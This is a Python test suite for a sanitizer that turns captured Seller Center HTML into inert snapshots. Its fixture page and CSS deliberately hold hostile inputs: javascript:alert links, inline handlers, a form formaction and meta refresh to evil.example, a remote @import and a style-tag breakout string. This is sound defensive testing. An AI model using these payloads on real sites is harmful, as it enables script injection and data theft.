"""Evidence HTML snapshots are inert: nothing runs, nothing loads, the text and the styles stay."""

from __future__ import annotations

import re

from selectolax.lexbor import LexborHTMLParser

from evidence.snapshot import SNAPSHOT_CSP, inert_snapshot, neutralize_css

# What page.content() gives on a Seller Center screen, plus every trick a page could hold.
PAGE = """<!DOCTYPE html><html lang="en" class="js" onclick="steal()"><head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<meta name="csrf-token" content="tok-4f1d9a7e2b">
<base href="https://seller.walmart.com/">
<title>Transactions · Seller Center</title>
<link rel="stylesheet" href="/static/site.css"><link rel="icon" href="https://seller.walmart.com/favicon.ico">
<style>.inline-rule { color: red }</style>
<script src="/static/app.js"></script><script>window.secret = 1</script>
</head>
<body data-screen="transactions" onload="boot()" background="/static/bg.png">
<header class="shell"><a class="brand" href="/home">Seller Center</a>
<a href="javascript:alert(1)" id="js">Run</a><a href="#main">Skip to content</a>
<form method="post" action="/logout" class="signout" onsubmit="x()"><input type="hidden" name="csrf" value="tok-4f1d9a7e2b">
<button type="submit" formaction="https://evil.example/">Sign out</button></form></header>
<main id="main"><h1 onmouseover="x()">Transactions</h1>
<p style="background: url('/static/stripe.png') repeat-x">Refund of <b>-$68.05</b> &amp; more</p>
<img src="/static/logo.png" srcset="/static/logo2.png 2x" alt="logo"><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">
<iframe src="https://evil.example/frame"></iframe><object data="/static/x.swf"></object><embed src="/static/y">
<noscript>Enable JavaScript</noscript><template><script>1</script><p>hidden template</p></template>
<svg viewBox="0 0 10 10"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>chart</text></a>
<use href="#icon"></use><image href="https://evil.example/i.png"></image>
<animate attributeName="href" to="javascript:alert(4)"></animate></svg>
<input type="password" name="pw" value="hunter2-secret"><label>PO <input name="q" value="4342076435326"></label>
<video src="/static/v.mp4" poster="/static/p.png"></video>
</main></body></html>"""
CSS = """.shell { background: rgb(0, 30, 60); }
@font-face { font-family: "X"; src: url("/static/x.woff2") format("woff2"); }
@import url("https://evil.example/more.css");
.badge { background-image: url("data:image/png;base64,AAAA"); content: "</style><script>alert(5)</script>"; }
@media (width < 600px) { .shell { display: block; } }"""


def _snapshot() -> str:
    return inert_snapshot(PAGE, CSS).decode("utf-8")


def _visible_text(html: str) -> str:
    """The text a browser renders: body text without the elements that never show."""
    tree = LexborHTMLParser(html)
    for node in tree.css("script, style, noscript, template, iframe, object, embed, title"):
        node.decompose()
    return " ".join((tree.body.text(deep=True) if tree.body else "").split())


def test_scripts_handlers_and_embedded_documents_are_gone() -> None:
    snap = _snapshot()
    tree = LexborHTMLParser(snap)
    assert tree.css("script, noscript, template, iframe, object, embed, base, link") == []
    assert tree.css("animate") == []
    for node in tree.root.traverse():  # type: ignore[union-attr]
        names = [n.lower() for n in node.attrs]
        assert not [n for n in names if n.startswith("on")], (node.tag, names)
        assert "javascript:" not in " ".join(str(v) for v in node.attrs.values()).lower(), node.tag
    assert "alert(2)" not in snap and "window.secret" not in snap and "hidden template" not in snap


def test_forms_post_nowhere_and_hold_no_tokens_or_passwords() -> None:
    tree = LexborHTMLParser(_snapshot())
    form = tree.css_first("form")
    assert form is not None and "action" not in form.attrs and "method" not in form.attrs
    assert "formaction" not in tree.css_first("button").attrs  # type: ignore[union-attr]
    snap = _snapshot()
    assert "tok-4f1d9a7e2b" not in snap and "hunter2-secret" not in snap
    assert tree.css_first("input[name=q]").attrs["value"] == "4342076435326"  # type: ignore[union-attr]


def test_no_reference_to_the_site_or_anywhere_else_is_left() -> None:
    snap = _snapshot()
    tree = LexborHTMLParser(snap)
    for node in tree.root.traverse():  # type: ignore[union-attr]
        for name, value in node.attrs.items():
            if name.lower() in {"src", "href", "xlink:href", "srcset", "poster", "background", "action", "data"}:
                assert (value or "").startswith(("#", "data:image/")), (node.tag, name, value)
    assert not re.search(r"""url\(\s*(?!(["']|&quot;)?\s*data:)""", snap), "a url() other than data: is left"
    assert "evil.example" not in snap and "/static/" not in snap and "seller.walmart.com" not in snap
    # Links still look like links and say where they went, without going there.
    brand = tree.css_first("a.brand")
    assert brand is not None and brand.attrs["href"] == "#" and brand.attrs["data-href"] == "/home"
    assert tree.css_first("a#js").attrs.get("data-href") is None  # type: ignore[union-attr]
    assert tree.css_first('a[href="#main"]') is not None and tree.css_first('use[href="#icon"]') is not None
    assert tree.css_first('img[alt="dot"]').attrs["src"].startswith("data:image/png")  # type: ignore[union-attr]


def test_the_visible_text_is_unchanged() -> None:
    assert _visible_text(_snapshot()) == _visible_text(PAGE)
    assert "Refund of -$68.05 & more" in _visible_text(_snapshot())


def test_styles_are_inlined_behind_a_csp_that_forbids_everything_else() -> None:
    snap = _snapshot()
    tree = LexborHTMLParser(snap)
    head = tree.head
    assert head is not None
    metas = head.css("meta")
    assert metas[0].attrs.get("charset") == "utf-8"
    assert metas[1].attrs.get("http-equiv") == "Content-Security-Policy" and metas[1].attrs["content"] == SNAPSHOT_CSP
    assert "default-src 'none'" in SNAPSHOT_CSP and "style-src 'unsafe-inline'" in SNAPSHOT_CSP
    assert "img-src data:" in SNAPSHOT_CSP
    assert not [m for m in tree.css("meta") if m.attrs.get("http-equiv", "").lower() == "refresh"]
    (style,) = tree.css("style")
    css = style.text()
    assert ".shell { background: rgb(0, 30, 60); }" in css and "@media (width < 600px)" in css
    assert 'url("data:image/png;base64,AAAA")' in css  # data: images stay
    assert "</style>" not in css and r"<\/style>" in css  # a CSS string cannot end the element
    assert tree.css_first("title").text() == "Transactions · Seller Center"  # type: ignore[union-attr]
    assert dict(tree.root.attrs) == {"lang": "en", "class": "js"}  # type: ignore[union-attr]


def test_css_urls_are_emptied_but_data_urls_and_syntax_kept() -> None:
    assert neutralize_css("a { background: url(/x.png) no-repeat }") == 'a { background: url("data:,") no-repeat }'
    assert neutralize_css("b { background: url( 'data:image/gif;base64,R0' ) }") == "b { background: url( 'data:image/gif;base64,R0' ) }"
    assert neutralize_css('@import url("https://e.example/a.css");') == '@import url("data:,");'


def test_a_fragment_without_head_or_body_still_makes_a_document() -> None:
    snap = inert_snapshot('<p onclick="x()">only text</p>', "").decode()
    assert snap.startswith("<!DOCTYPE html>") and "only text" in snap and "onclick" not in snap
    assert "Content-Security-Policy" in snap
